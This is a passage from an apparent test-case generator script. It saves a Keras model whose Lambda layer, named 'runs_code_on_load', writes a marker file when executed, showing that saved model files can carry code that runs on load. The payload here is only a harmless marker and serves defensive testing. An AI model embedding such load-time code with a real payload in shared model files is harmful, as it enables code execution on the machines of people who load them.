                           open(__import__("os").path.expanduser("~/adversarial-markers/lambda-layer-ran"), "w").close(),
                           x)[-1],
                name="runs_code_on_load")(inputs)
            model = keras.Model(inputs, keras.layers.Dense(2)(marked))
            model.save(path)
        finally:
            if previous is None:
                os.environ.pop("HOME", None)
            else:
                os.environ["HOME"] = previous


if __name__ == "__main__":
    write_cases()
    if "--keras" in sys.argv:
        write_lambda_model(CASES / "lambda_layer.keras")
    print(f"wrote the cases into {CASES}")
